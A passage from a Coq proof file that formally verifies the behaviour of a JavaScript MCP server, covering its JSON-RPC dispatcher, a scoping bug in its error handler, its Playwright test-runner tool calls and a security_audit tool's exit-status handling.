Lemma bind_run (m : M A) (f : A -> M B) w tr w' a :
  m w = mkRun tr w' (Returned a) ->
  bind m f w
  = mkRun (tr ++ trace (f a w')) (world (f a w')) (outcome (f a w')).
Proof. intros H. unfold bind. rewrite H. reflexivity. Qed.

Lemma bind_run_thrown (m : M A) (f : A -> M B) w tr w' e :
  m w = mkRun tr w' (Thrown e) -> bind m f w = mkRun tr w' (Thrown e).
Proof. intros H. unfold bind. rewrite H. reflexivity. Qed.

Lemma bind_run_pending (m : M A) (f : A -> M B) w tr w' :
  m w = mkRun tr w' Pending -> bind m f w = mkRun tr w' Pending.
Proof. intros H. unfold bind. rewrite H. reflexivity. Qed.

Lemma try_catch_returned (m : M A) (h : JSError -> M A) w tr w' a :
  m w = mkRun tr w' (Returned a) -> try_catch m h w = mkRun tr w' (Returned a).
Proof. intros H. unfold try_catch. rewrite H. reflexivity. Qed.

Lemma try_catch_pending (m : M A) (h : JSError -> M A) w tr w' :
  m w = mkRun tr w' Pending -> try_catch m h w = mkRun tr w' Pending.
Proof. intros H. unfold try_catch. rewrite H. reflexivity. Qed.

(** An exception of the block runs the handler in the world the block
    left. *)
Lemma try_catch_thrown (m : M A) (h : JSError -> M A) w tr w' e :
  m w = mkRun tr w' (Thrown e) ->
  try_catch m h w
  = mkRun (tr ++ trace (h e w')) (world (h e w')) (outcome (h e w')).
Proof. intros H. unfold try_catch. rewrite H. reflexivity. Qed.

(** A handler that always returns leaves no exception. *)
Lemma try_catch_handled (m : M A) (h : JSError -> M A) w e :
  (forall e' w', exists a, outcome (h e' w') = Returned a) ->
  outcome (try_catch m h w) <> Thrown e.
Proof.
  intros Hh. unfold try_catch. cbv zeta.
  destruct (outcome (m w)) as [a|e'|] eqn:Ho; cbn [outcome].
  - rewrite Ho. discriminate.
  - destruct (Hh e' (world (m w))) as [a Ha]. rewrite Ha. discriminate.
  - rewrite Ho. discriminate.
Qed.

(** The laws of the monad, run by run. *)
Lemma bind_ret_r (m : M A) w : bind m ret w = m w.
Proof.
  unfold bind, ret. destruct (outcome (m w)) eqn:Ho; cbn [trace world outcome].
  - rewrite app_nil_r, <- Ho. reflexivity.
  - rewrite <- Ho. reflexivity.
  - rewrite <- Ho. reflexivity.
Qed.

Lemma bind_assoc {C} (m : M A) (f : A -> M B) (g : B -> M C) w :
  bind (bind m f) g w = bind m (fun a => bind (f a) g) w.
Proof.
  unfold bind. cbn [trace world outcome].
  destruct (outcome (m w)); cbn [trace world outcome]; [|reflexivity..].
  destruct (outcome (f a (world (m w)))); cbn [trace world outcome];
    [|reflexivity..].
  now rewrite app_assoc.
Qed.

End MonadFacts.

(** ** SimpleMCPServer: the dispatcher *)

Section Dispatcher.

Import SimpleMCPServer.

Variable host : Host.

Lemma Get_member v k :
  nullish v = false -> Get host v k = Returned (member host v k).
Proof.
  unfold member.
  destruct v; simpl; try discriminate; intros _; try reflexivity.
  destruct (own_property k fields); reflexivity.
Qed.

(** The catch clause of [processMessage] never produces a response: the
    identifier [parsed] it reads is not in scope. *)
Lemma processMessage_catch_throws message e w :
  processMessage_catch host message e w
  = mkRun [] w (Thrown (mkError ReferenceError
                          (reference_error_message host (js "parsed")))).
Proof. reflexivity. Qed.

(** Whatever the block of the [try] throws, [processMessage] ends with the
    ReferenceError of its catch clause. *)
Lemma processMessage_thrown message w tr w' e :
  processMessage_try host message w = mkRun tr w' (Thrown e) ->
  processMessage host message w
  = mkRun tr w' (Thrown (mkError ReferenceError
                           (reference_error_message host (js "parsed")))).
Proof.
  intros H. unfold processMessage.
  erewrite try_catch_thrown by exact H.
  rewrite processMessage_catch_throws. cbn. now rewrite app_nil_r.
Qed.

(** One step of the block of the try: a property read that returns, or a
    comparison of two literals. *)
Ltac literal_test :=
  match goal with
  | |- context [strict_equals_string (JString (js ?a)) (js ?b)] =>
      let c := eval vm_compute in
                 (strict_equals_string (JString (js a)) (js b)) in
      replace (strict_equals_string (JString (js a)) (js b)) with c
        by reflexivity;
      cbv iota
  end.

Ltac read_members :=
  repeat first [ rewrite bind_returned; cbv beta
               | literal_test
               | rewrite !Get_member by assumption ].

(** C8: for every parsed request whose method is none of initialize,
    tools/list and tools/call, processMessage returns the error response
    with code -32601, Method not found, and the id of the request.  It
    holds for every parsed value from which a property can be read, a
    request object in particular. *)
Theorem unknown_method_not_found message parsed w :
  JSON_parse host message = inl parsed ->
  nullish parsed = false ->
  method_is host parsed (js "initialize") = false ->
  method_is host parsed (js "tools/list") = false ->
  method_is host parsed (js "tools/call") = false ->
  processMessage host message w
  = mkRun [] w
      (Returned {| jsonrpc := js "2.0";
                   id := member host parsed (js "id");
                   body := error_object (-32601) (js "Method not found") |}).
Proof.
  unfold method_is. intros Hparse Hobj Hinit Hlist Hcall.
  unfold processMessage. apply try_catch_returned.
  unfold processMessage_try. rewrite Hparse.
  read_members. rewrite Hinit. cbv iota.
  read_members. rewrite Hlist. cbv iota.
  read_members. rewrite Hcall. cbv iota.
  read_members. reflexivity.
Qed.

Lemma member_of_nullish v k : nullish v = true -> member host v k = JUndefined.
Proof. unfold member. destruct v; simpl; try discriminate; reflexivity. Qed.

Lemma method_is_object parsed lit :
  method_is host parsed lit = true ->
  nullish parsed = false /\ member host parsed (js "method") = JString lit.
Proof.
  unfold method_is. intros H. split.
  - destruct (nullish parsed) eqn:Hn; [|reflexivity].
    rewrite (member_of_nullish _ _ Hn) in H. discriminate.
  - now apply strict_equals_string_true.
Qed.

(** C7: the registry holds no two descriptors with the same name, and a
    tools/list request is answered with the id of the request and, as
    result.tools, the descriptors of the registry as registered. *)
Theorem tools_list_returns_registry message parsed w :
  JSON_parse host message = inl parsed ->
  method_is host parsed (js "tools/list") = true ->
  processMessage host message w
  = mkRun [] w
      (Returned {| jsonrpc := js "2.0";
                   id := member host parsed (js "id");
                   body := result_tools tools |})
  /\ NoDup (map name tools)
  /\ NoDup (map PlaywrightMcpServer.tool_name
              PlaywrightMcpServer.registrations).
Proof.
  intros Hparse Hlist.
  destruct (method_is_object _ _ Hlist) as [Hobj Hmethod].
  split; [|split].
  - unfold processMessage. apply try_catch_returned.
    unfold processMessage_try. rewrite Hparse.
    read_members. rewrite Hmethod.
    read_members. reflexivity.
  - apply distinct_NoDup. reflexivity.
  - apply distinct_NoDup. reflexivity.
Qed.

(** A unit that is not JSON: the SyntaxError of JSON.parse is caught, and
    the catch clause fails in turn. *)
Lemma processMessage_parse_failure message msg w :
  JSON_parse host message = inr msg ->
  processMessage host message w
  = mkRun [] w (Thrown (mkError ReferenceError
                          (reference_error_message host (js "parsed")))).
Proof.
  intros Hparse.
  apply processMessage_thrown with (e := mkError SyntaxError msg).
  unfold processMessage_try. rewrite Hparse. reflexivity.
Qed.

Lemma call_of_inv parsed n a :
  call_of host parsed = Some (n, a) ->
  nullish parsed = false
  /\ member host parsed (js "method") = JString (js "tools/call")
  /\ Get host (member host parsed (js "params")) (js "name") = Returned n
  /\ Get host (member host parsed (js "params")) (js "arguments")
     = Returned a.
Proof.
  unfold call_of. intros H.
  destruct (method_is host parsed (js "tools/call")) eqn:Hm; [|discriminate].
  destruct (method_is_object _ _ Hm) as [Hobj Hmethod].
  rewrite (Get_member _ (js "params") Hobj) in H.
  destruct (Get host (member host parsed (js "params")) (js "name"))
    as [n'| |]; try discriminate.
  destruct (Get host (member host parsed (js "params")) (js "arguments"))
    as [a'| |]; try discriminate.
  injection H as <- <-. auto.
Qed.

(** A tools/call request reaches [handleToolCall] with the name and the
    arguments of its [params]; the payload the handler returns becomes the
    [result] of the response. *)
Lemma processMessage_try_call message parsed n a w :
  JSON_parse host message = inl parsed ->
  call_of host parsed = Some (n, a) ->
  processMessage_try host message w
  = bind (handleToolCall host n a)
      (fun result =>
         ret {| jsonrpc := js "2.0";
                id := member host parsed (js "id");
                body := result_call result |}) w.
Proof.
  intros Hparse Hcall.
  destruct (call_of_inv _ _ _ Hcall) as (Hobj & Hmethod & Hname & Hargs).
  unfold processMessage_try. rewrite Hparse.
  read_members. rewrite Hmethod. read_members.
  rewrite Hname. read_members.
  rewrite Hargs. read_members.
  reflexivity.
Qed.

(** *** The command executor *)

(** The data events before the settling event are accumulated. *)
Lemma child_promise_data data rest output errorOutput :
  forallb is_data data = true ->
  child_promise (data ++ rest) output errorOutput
  = child_promise rest (output ++ stdout_of data)
      (errorOutput ++ stderr_of data).
Proof.
  revert output errorOutput.
  induction data as [|ev data IH]; intros output errorOutput Hdata.
  - simpl. now rewrite !app_nil_r.
  - simpl in Hdata. apply andb_true_iff in Hdata as [Hev Hdata].
    destruct ev; try discriminate; simpl; rewrite (IH _ _ Hdata);
      now rewrite <- app_assoc.
Qed.

Lemma can_launch_inv w :
  can_launch host w = true ->
  module_require host = true
  /\ fs_existsSync w (project_dir w) = true
  /\ fs_isDirectory w (project_dir w) = true.
Proof.
  unfold can_launch. intros H.
  apply andb_true_iff in H as [H Hdir].
  apply andb_true_iff in H as [Hreq Hex]. auto.
Qed.

Lemma validateProjectDir_passes w :
  can_launch host w = true ->
  validateProjectDir host (project_dir w) w = mkRun [] w (Returned tt).
Proof.
  intros H. destruct (can_launch_inv _ H) as (Hreq & Hex & Hdir).
  unfold validateProjectDir. rewrite Hreq, bind_ret.
  unfold bind, get_world. cbn [outcome world trace].
  rewrite Hex, Hdir. reflexivity.
Qed.

(** When the project directory passes, the command is announced and
    spawned, and the promise is settled by the events of the child. *)
Lemma runPlaywrightTests_launched options w :
  can_launch host w = true ->
  runPlaywrightTests host (project_dir w) options w
  = mkRun
      [ console_error (js "Running: npx playwright "
                       ++ join_sp (playwright_args options)
                       ++ js " in " ++ project_dir w);
        spawn (js "npx") (js "playwright" :: playwright_args options)
          (project_dir w) ]
      (after_spawn w)
      (child_promise (hd [] (children w)) [] []).
Proof.
  intros H. unfold runPlaywrightTests.
  unfold bind at 1. rewrite (validateProjectDir_passes _ H).
  reflexivity.
Qed.


(** How [handleToolCall] turns the way the promise of the executor is
    settled into a payload, for the two registered tools. *)
Lemma handleToolCall_registered tool args w :
  In tool tool_names ->
  can_launch host w = true ->
  outcome (handleToolCall host (JString tool) args w)
  = match child_promise (hd [] (children w)) [] [] with
    | Returned output =>
        Returned {| content :=
                      [text_block (completed_banner tool ++ [nl; nl]
                                   ++ output)];
                    isError := None |}
    | Thrown e =>
        Returned {| content :=
                      [text_block (failure_prefix tool ++ message e)];
                    isError := Some true |}
    | Pending => Pending
    end.
Proof.
  intros Hin Hlaunch.
  unfold tool_names, tools in Hin. cbn in Hin.
  destruct Hin as [<- | [<- | []]];
    unfold handleToolCall; repeat literal_test;
    unfold try_catch, bind, emit, get_world, ret;
    cbn [trace world outcome];
    rewrite (runPlaywrightTests_launched _ _ Hlaunch);
    cbn [trace world outcome];
    destruct (child_promise (hd [] (children w)) [] []); reflexivity.
Qed.

(** The module is an ES module (it starts with import declarations), and
    an ES module has no [require] in scope: [validateProjectDir] throws at
    its first statement, before it looks at the directory and before any
    command is run, and both tools answer with the error payload of that
    ReferenceError. *)
Lemma runPlaywrightTests_without_require dir options w :
  module_require host = false ->
  runPlaywrightTests host dir options w
  = mkRun [] w
      (Thrown (mkError ReferenceError
                 (reference_error_message host (js "require")))).
Proof.
  intros Hreq. unfold runPlaywrightTests.
  apply bind_run_thrown.
  unfold validateProjectDir. rewrite Hreq. reflexivity.
Qed.

Lemma handleToolCall_without_require tool args w :
  In tool tool_names ->
  module_require host = false ->
  handleToolCall host (JString tool) args w
  = mkRun [console_error (Tool.notice tool)] w
      (Returned {| content :=
                     [text_block (failure_prefix tool
                                  ++ reference_error_message host
                                       (js "require"))];
                   isError := Some true |}).
Proof.
  intros Hin Hreq.
  unfold tool_names, tools in Hin. cbn in Hin.
  destruct Hin as [<- | [<- | []]];
    unfold handleToolCall; repeat literal_test;
    unfold try_catch, bind, emit, get_world, ret;
    cbn [trace world outcome];
    rewrite (runPlaywrightTests_without_require _ _ _ Hreq);
    reflexivity.
Qed.

(** No exception leaves [handleToolCall] for a registered tool: what the
    block of the try throws is turned into an error payload. *)
Lemma handleToolCall_registered_never_throws tool args w e :
  In tool tool_names ->
  outcome (handleToolCall host (JString tool) args w) <> Thrown e.
Proof.
  intros Hin.
  unfold tool_names, tools in Hin. cbn in Hin.
  destruct Hin as [<- | [<- | []]];
    unfold handleToolCall; repeat literal_test;
    apply try_catch_handled; intros e' w'; eexists; reflexivity.
Qed.

(** The payload [handleToolCall] returns is the [result] of the response,
    with the id of the request. *)
Lemma processMessage_call_returned message parsed n a w payload :
  JSON_parse host message = inl parsed ->
  call_of host parsed = Some (n, a) ->
  outcome (handleToolCall host n a w) = Returned payload ->
  outcome (processMessage host message w)
  = Returned {| jsonrpc := js "2.0";
                id := member host parsed (js "id");
                body := result_call payload |}.
Proof.
  intros Hparse Hcall Hpayload.
  unfold processMessage, try_catch.
  rewrite (processMessage_try_call _ _ _ _ _ Hparse Hcall).
  unfold bind. rewrite Hpayload. reflexivity.
Qed.

(** What the handlers are written to do once [validateProjectDir] passes,
    which takes a module system that binds [require].  After an exit with
    status 0 the payload has no isError flag and its text is the completion
    banner of the tool, an empty line, and the accumulated stdout, or the
    fallback message when stdout is empty. *)
Lemma with_require_exit_zero tool args w data rest :
  In tool tool_names ->
  can_launch host w = true ->
  hd [] (children w) = data ++ close (Some 0%Z) :: rest ->
  forallb is_data data = true ->
  exists payload,
    outcome (handleToolCall host (JString tool) args w) = Returned payload
    /\ isError payload = None
    /\ map text (content payload)
       = [ completed_banner tool ++ [nl; nl]
           ++ or_else (stdout_of data) (js "Tests completed successfully") ]
    /\ forallb truthy (map text (content payload)) = true.
Proof.
  intros Hin Hlaunch Hchild Hdata.
  rewrite (handleToolCall_registered _ args _ Hin Hlaunch), Hchild.
  rewrite (child_promise_data _ _ _ _ Hdata). cbn [child_promise app].
  eexists. split; [reflexivity|]. split; [reflexivity|].
  split; [reflexivity|].
  unfold tool_names, tools in Hin. cbn in Hin.
  destruct Hin as [<- | [<- | []]]; reflexivity.
Qed.

(** After an exit with another status, or a launch failure, the payload
    has isError set; its text carries the exit status and the accumulated
    stderr, or the accumulated stdout when stderr is empty, and after a
    launch failure the message of the launch error. *)
Lemma with_require_failed_command tool args w data settling rest :
  In tool tool_names ->
  can_launch host w = true ->
  hd [] (children w) = data ++ settling :: rest ->
  forallb is_data data = true ->
  (exists code, settling = close code /\ code <> Some 0%Z)
  \/ (exists msg, settling = child_error msg) ->
  exists payload,
    outcome (handleToolCall host (JString tool) args w) = Returned payload
    /\ isError payload = Some true
    /\ map text (content payload)
       = [ failure_prefix tool
           ++ match settling with
              | close code =>
                  js "Playwright tests failed with code "
                  ++ match code with
                     | Some c => of_Z c
                     | None => js "null"
                     end
                  ++ js ":" ++ [nl]
                  ++ or_else (stderr_of data) (stdout_of data)
              | child_error msg =>
                  js "Failed to run Playwright tests: " ++ msg
              | _ => []
              end ]
    /\ forall message parsed,
         JSON_parse host message = inl parsed ->
         call_of host parsed = Some (JString tool, args) ->
         outcome (processMessage host message w)
         = Returned {| jsonrpc := js "2.0";
                       id := member host parsed (js "id");
                       body := result_call payload |}.
Proof.
  intros Hin Hlaunch Hchild Hdata Hfailed.
  pose proof (handleToolCall_registered _ args _ Hin Hlaunch) as Hrun.
  rewrite Hchild, (child_promise_data _ _ _ _ Hdata) in Hrun.
  cbn [app] in Hrun.
  destruct Hfailed as [(code & -> & Hcode) | (msg & ->)].
  - assert (Hthrown :
      child_promise (close code :: rest) (stdout_of data) (stderr_of data)
      = Thrown (mkError Error
          (js "Playwright tests failed with code "
           ++ match code with Some c => of_Z c | None => js "null" end
           ++ js ":" ++ [nl] ++ or_else (stderr_of data) (stdout_of data)))).
    { destruct code as [[| |]|]; try reflexivity. congruence. }
    rewrite Hthrown in Hrun.
    eexists. split; [exact Hrun|]. split; [reflexivity|].
    split; [reflexivity|].
    intros message parsed Hparse Hcall.
    exact (processMessage_call_returned _ _ _ _ _ _ Hparse Hcall Hrun).
  - cbn [child_promise] in Hrun.
    eexists. split; [exact Hrun|]. split; [reflexivity|].
    split; [reflexivity|].
    intros message parsed Hparse Hcall.
    exact (processMessage_call_returned _ _ _ _ _ _ Hparse Hcall Hrun).
Qed.

Lemma names_tool_false v :
  names_tool v = false ->
  strict_equals_string v (js "run_ui_tests") = false
  /\ strict_equals_string v (js "run_accessibility_tests") = false.
Proof.
  unfold names_tool, tool_names, tools. cbn [map existsb name].
  intros H. apply orb_false_iff in H as [H1 H].
  apply orb_false_iff in H as [H2 _]. auto.
Qed.

(** The error [handleToolCall] throws for a name that is not registered:
    the Error made of the template literal, or the TypeError of the
    conversion of the name to a string when the name has no primitive
    value. *)
Lemma handleToolCall_unknown name args w :
  names_tool name = false ->
  handleToolCall host name args w
  = mkRun [] w
      (Thrown match ToString host name with
              | inl shown => mkError Error (js "Unknown tool: " ++ shown)
              | inr error => error
              end).
Proof.
  intros Hname.
  destruct (names_tool_false _ Hname) as [Hui Hacc].
  unfold handleToolCall. rewrite Hui, Hacc.
  destruct (ToString host name); reflexivity.
Qed.

(** C9: handleToolCall never reads its args argument: for every tool name
    and any two argument values it runs alike, with the same actions, the
    same consumption of child processes and the same payload or error; so
    two tools/call requests that differ in their arguments only are
    answered alike. *)
Theorem tool_result_ignores_arguments
    message1 message2 parsed1 parsed2 name args1 args2 w :
  JSON_parse host message1 = inl parsed1 ->
  JSON_parse host message2 = inl parsed2 ->
  call_of host parsed1 = Some (name, args1) ->
  call_of host parsed2 = Some (name, args2) ->
  member host parsed1 (js "id") = member host parsed2 (js "id") ->
  (forall n a1 a2 w0,
     handleToolCall host n a1 w0 = handleToolCall host n a2 w0)
  /\ processMessage host message1 w = processMessage host message2 w.
Proof.
  intros Hparse1 Hparse2 Hcall1 Hcall2 Hid.
  split; [reflexivity|].
  unfold processMessage, try_catch.
  rewrite (processMessage_try_call _ _ _ _ _ Hparse1 Hcall1).
  rewrite (processMessage_try_call _ _ _ _ _ Hparse2 Hcall2).
  rewrite Hid.
  change (handleToolCall host name args1) with (handleToolCall host name args2).
  destruct (outcome _); reflexivity.
Qed.


(** *** The actions inside a dispatch *)

Lemma Quiet_ret {A} (a : A) : Quiet (ret a).
Proof. intros w. constructor. Qed.

Lemma Quiet_throw {A} (e : JSError) : Quiet (@throw A e).
Proof. intros w. constructor. Qed.

Lemma Quiet_lift {A} (o : Outcome A) : Quiet (lift o).
Proof. intros w. constructor. Qed.

Lemma Quiet_get_world : Quiet get_world.
Proof. intros w. constructor. Qed.

Lemma Quiet_console_error s : Quiet (emit (console_error s)).
Proof. intros w. repeat constructor. Qed.

Lemma Quiet_spawn_child c a d : Quiet (spawn_child c a d).
Proof. intros w. repeat constructor. Qed.

Lemma Quiet_bind {A B} (m : M A) (f : A -> M B) :
  Quiet m -> (forall a, Quiet (f a)) -> Quiet (bind m f).
Proof.
  intros Hm Hf w. unfold bind.
  destruct (outcome (m w)) eqn:Ho; cbn [trace]; try apply Hm.
  apply Forall_app. split; [apply Hm | apply Hf].
Qed.

Lemma Quiet_try_catch {A} (m : M A) (h : JSError -> M A) :
  Quiet m -> (forall e, Quiet (h e)) -> Quiet (try_catch m h).
Proof.
  intros Hm Hh w. unfold try_catch.
  destruct (outcome (m w)) eqn:Ho; cbn [trace]; try apply Hm.
  apply Forall_app. split; [apply Hm | apply Hh].
Qed.

Create HintDb quiet.

#[local] Hint Resolve Quiet_ret Quiet_throw Quiet_lift Quiet_get_world
  Quiet_console_error Quiet_spawn_child : quiet.

(** Splits a computation along its binds, handlers and conditionals. *)
Ltac quiet :=
  repeat first
    [ apply Quiet_bind; [|intros ?]
    | apply Quiet_try_catch; [|intros ?]
    | match goal with
      | |- Quiet (if ?c then _ else _) => destruct c
      | |- Quiet (match ?c with inl _ => _ | inr _ => _ end) => destruct c
      end
    | solve [auto with quiet] ].

Lemma Quiet_validateProjectDir dir : Quiet (validateProjectDir host dir).
Proof. unfold validateProjectDir. quiet. Qed.

Lemma Quiet_runPlaywrightTests dir options :
  Quiet (runPlaywrightTests host dir options).
Proof.
  unfold runPlaywrightTests. cbv zeta.
  apply Quiet_bind; [apply Quiet_validateProjectDir | intros _]. quiet.
Qed.

#[local] Hint Resolve Quiet_runPlaywrightTests : quiet.

Lemma Quiet_handleToolCall n a : Quiet (handleToolCall host n a).
Proof. unfold handleToolCall. quiet. Qed.

#[local] Hint Resolve Quiet_handleToolCall : quiet.

(** Between its call and its return, [processMessage] neither dispatches
    nor writes a response. *)
Lemma Quiet_processMessage message : Quiet (processMessage host message).
Proof.
  unfold processMessage, processMessage_try, processMessage_catch. quiet.
Qed.

(** The loop of the data handler, line by line. *)
Lemma for_lines_sequential lines :
  forall w, Sequential host w lines (trace (for_lines host lines w)).
Proof.
  induction lines as [|line rest IH]; intros w.
  - constructor.
  - cbn [for_lines]. destruct (truthy (trim line)) eqn:Hline.
    + unfold bind, emit. cbn [outcome trace world].
      destruct (outcome (processMessage host line w)) as [r| |] eqn:Hout;
        cbn [outcome trace world app].
      * rewrite <- app_assoc. cbn [app].
        apply seq_answered; auto.
        apply Quiet_processMessage.
      * apply seq_unanswered; auto.
        -- intros r. rewrite Hout. discriminate.
        -- apply Quiet_processMessage.
      * apply seq_unanswered; auto.
        -- intros r. rewrite Hout. discriminate.
        -- apply Quiet_processMessage.
    + rewrite bind_ret. apply seq_blank; auto.
Qed.

Lemma quiet_counts inner :
  Forall quiet_event inner -> dispatches inner = 0 /\ writes inner = 0.
Proof.
  induction 1 as [|ev inner Hev _ [IHd IHw]]; [split; reflexivity|].
  destruct ev; cbn in Hev; try contradiction; cbn; auto.
Qed.

Lemma dispatches_app a b : dispatches (a ++ b) = dispatches a + dispatches b.
Proof.
  induction a as [|ev a IH]; [reflexivity|].
  destruct ev; cbn [app dispatches]; rewrite IH; reflexivity.
Qed.

Lemma writes_app a b : writes (a ++ b) = writes a + writes b.
Proof.
  induction a as [|ev a IH]; [reflexivity|].
  destruct ev; cbn [app writes]; rewrite IH; reflexivity.
Qed.

(** A dispatch found in a trace that starts with hidden actions lies
    after them. *)
Lemma dispatch_after_quiet inner tail pre line post :
  Forall quiet_event inner ->
  inner ++ tail = pre ++ call_processMessage line :: post ->
  exists pre', pre = inner ++ pre'
               /\ tail = pre' ++ call_processMessage line :: post.
Proof.
  intros Hquiet. revert pre.
  induction Hquiet as [|ev inner Hev _ IH]; intros pre Heq.
  - exists pre. auto.
  - destruct pre as [|ev' pre].
    + cbn [app] in Heq. injection Heq as -> _. contradiction Hev.
    + cbn [app] in Heq. injection Heq as <- Heq.
      destruct (IH _ Heq) as (pre' & -> & ->).
      exists pre'. auto.
Qed.

(** In a sequential trace every dispatch comes when all the dispatches
    before it have had their response written. *)
Lemma sequential_balanced w lines tr :
  Sequential host w lines tr ->
  forall pre line post,
    tr = pre ++ call_processMessage line :: post ->
    writes pre = dispatches pre.
Proof.
  induction 1 as [ w | w l rest tr Hline Hseq IH
                 | w l rest r tr Hline Hout Hquiet Hseq IH
                 | w l rest Hline Hout Hquiet ];
    intros pre line post Heq.
  - destruct pre; discriminate.
  - eauto.
  - destruct pre as [|ev pre]; [reflexivity|].
    cbn [app] in Heq. injection Heq as <- Heq.
    destruct (dispatch_after_quiet _ _ _ _ _ Hquiet Heq) as (pre' & -> & Heq').
    destruct pre' as [|ev' pre']; [discriminate|].
    cbn [app] in Heq'. injection Heq' as <- Heq'.
    destruct (quiet_counts _ Hquiet) as [Hd Hw].
    cbn [writes dispatches].
    rewrite writes_app, dispatches_app, Hd, Hw. cbn [writes dispatches].
    now rewrite (IH _ _ _ Heq').
  - destruct pre as [|ev pre]; [reflexivity|].
    cbn [app] in Heq. injection Heq as <- Heq. exfalso.
    rewrite <- (app_nil_r (trace _)) in Heq.
    destruct (dispatch_after_quiet _ _ _ _ _ Hquiet Heq) as (pre' & _ & Heq').
    destruct pre'; discriminate.
Qed.

(** C10: within one chunk the lines are treated strictly one after the
    other: the response to a line is computed and written to standard
    output before the next line is dispatched (nothing but the hidden
    actions of the call lies between a dispatch and the write of its
    response, a dispatch that yields no response ends the handler, and at
    every dispatch as many responses have been written as lines were
    dispatched before), and a line that is empty or consists of white
    space is neither dispatched nor answered. *)
Theorem chunk_lines_are_sequential data w :
  Sequential host w (split_nl data) (trace (on_data host data w))
  /\ forall pre line post,
       trace (on_data host data w) = pre ++ call_processMessage line :: post ->
       writes pre = dispatches pre.
Proof.
  assert (Hseq :
    Sequential host w (split_nl data) (trace (on_data host data w)))
    by (unfold on_data; apply for_lines_sequential).
  split; [exact Hseq|]. exact (sequential_balanced _ _ _ Hseq).
Qed.

End Dispatcher.

(** ** playwright-mcp-server: exit status 1 *)

Section ExitStatusOne.

Import PlaywrightMcpServer.

Remark thirteen_tools_registered : length registrations = 13.
Proof. reflexivity. Qed.

(** C6: of the registered handlers, security_audit alone takes exit
    status 1 of its command for a success: its promise is resolved with a
    payload holding the findings, the stdout of the command or the message
    No security vulnerabilities found when stdout is empty; the promise of
    every other handler is rejected when its command exits with status
    1. *)
Theorem only_security_audit_accepts_exit_1 r args out errs :
  In r registrations ->
  (tool_name r = js "security_audit" ->
   settles (tool_handler r args) (exits_with 1 out errs)
   = resolve (text_result
                (or_else out (js "No security vulnerabilities found"))))
  /\ (tool_name r <> js "security_audit" ->
      exists payload,
        settles (tool_handler r args) (exits_with 1 out errs)
        = reject payload).
Proof.
  intros Hin. unfold registrations in Hin. cbn [In] in Hin.
  repeat (destruct Hin as [<- | Hin]); try contradiction;
    (split; cbn [tool_name tool_handler]; intros Hname;
     [ try (vm_compute in Hname; discriminate Hname)
     | try (now contradiction Hname) ]).
  all: try reflexivity.
  all: try (eexists; reflexivity).
  unfold performance_test.
  destruct (arg_truthy args (js "url")); eexists; reflexivity.
Qed.

End ExitStatusOne.

(** ** Runs on the concrete host *)

Section ConcreteRuns.

Import SimpleMCPServer Sample.

Lemma only_security_audit_accepts_exit_1_witness :
  (js "security_audit" = js "security_audit" ->
   PlaywrightMcpServer.settles
     (PlaywrightMcpServer.security_audit [])
     (PlaywrightMcpServer.exits_with 1 (jq "{'vulnerabilities':3}") [])
   = PlaywrightMcpServer.resolve
       (PlaywrightMcpServer.text_result (jq "{'vulnerabilities':3}")))
  /\ (js "security_audit" <> js "security_audit" ->
      exists payload,
        PlaywrightMcpServer.settles
          (PlaywrightMcpServer.security_audit [])
          (PlaywrightMcpServer.exits_with 1 (jq "{'vulnerabilities':3}") [])
        = PlaywrightMcpServer.reject payload).
Proof.
  apply (only_security_audit_accepts_exit_1
           (nth 2 PlaywrightMcpServer.registrations
              (PlaywrightMcpServer.Build_Registration [] [] []
                 PlaywrightMcpServer.security_audit))
           [] (jq "{'vulnerabilities':3}") []).
  right. right. left. reflexivity.
Defined.

Lemma unknown_method_not_found_witness :
  processMessage (Node.host false) resources_list_line (Node.world [])
  = mkRun [] (Node.world [])
      (Returned {| jsonrpc := js "2.0";
                   id := JNumber (js "7");
                   body := error_object (-32601) (js "Method not found") |}).
Proof.
  apply (unknown_method_not_found (Node.host false) resources_list_line
           resources_list_request (Node.world []));
    reflexivity.
Defined.


Lemma tools_list_returns_registry_witness :
  processMessage (Node.host false) tools_list_line (Node.world [])
  = mkRun [] (Node.world [])
      (Returned {| jsonrpc := js "2.0";
                   id := JNumber (js "1");
                   body := result_tools tools |})
  /\ NoDup (map name tools)
  /\ NoDup (map PlaywrightMcpServer.tool_name
              PlaywrightMcpServer.registrations).
Proof.
  apply (tools_list_returns_registry (Node.host false) tools_list_line
           tools_list_request (Node.world []));
    reflexivity.
Defined.

(** The scenario of the specification: the tools/list line, sent as one
    chunk, is answered by one line carrying id 1 and the two descriptors. *)
Example tools_list_scenario :
  on_data (Node.host false) (tools_list_line ++ [nl]) (Node.world [])
  = mkRun
      [ call_processMessage tools_list_line;
        stdout_write
          (jq "{'jsonrpc':'2.0','id':1,'result':{'tools':["
           ++ jq "{'name':'run_ui_tests','description':'Run all Playwright UI tests with list reporter','inputSchema':{'type':'object','properties':{},'required':[]}},"
           ++ jq "{'name':'run_accessibility_tests','description':'Run only accessibility tests with JSON reporter','inputSchema':{'type':'object','properties':{},'required':[]}}"
           ++ jq "]}}" ++ [nl]) ]
      (Node.world []) (Returned tt).
Proof. vm_compute. reflexivity. Qed.

(** C2, on the code: a unit that is not JSON gets no response.  JSON.parse
    throws, the catch clause of processMessage reads the identifier parsed,
    which is declared in the block of the try and not in scope there, and
    the ReferenceError leaves processMessage and the data handler: nothing
    is written to standard output and the lines after it are never
    dispatched. *)
Theorem parse_failure_escapes_as_reference_error :
  JSON_parse (Node.host false) (js "not json")
  = inr (js "Unexpected token in JSON")
  /\ processMessage (Node.host false) (js "not json") (Node.world [])
     = mkRun [] (Node.world [])
         (Thrown (mkError ReferenceError (js "parsed is not defined")))
  /\ on_data (Node.host false)
       (js "not json" ++ [nl] ++ tools_list_line ++ [nl]) (Node.world [])
     = mkRun [call_processMessage (js "not json")] (Node.world [])
         (Thrown (mkError ReferenceError (js "parsed is not defined"))).
Proof. repeat split; vm_compute; reflexivity. Qed.

Lemma tool_result_ignores_arguments_witness :
  (forall n a1 a2 w0,
     handleToolCall (Node.host false) n a1 w0
     = handleToolCall (Node.host false) n a2 w0)
  /\ processMessage (Node.host false) (call_line "5" "run_ui_tests" "{}")
       (Node.world [exiting "ok" "" 0])
     = processMessage (Node.host false)
         (call_line "5" "run_ui_tests" "{'grep':'login','workers':4}")
         (Node.world [exiting "ok" "" 0]).
Proof.
  apply (tool_result_ignores_arguments (Node.host false)
           (call_line "5" "run_ui_tests" "{}")
           (call_line "5" "run_ui_tests" "{'grep':'login','workers':4}")
           (call_request "5" "run_ui_tests" (JObject []))
           (call_request "5" "run_ui_tests"
              (JObject [ (js "grep", JString (js "login"));
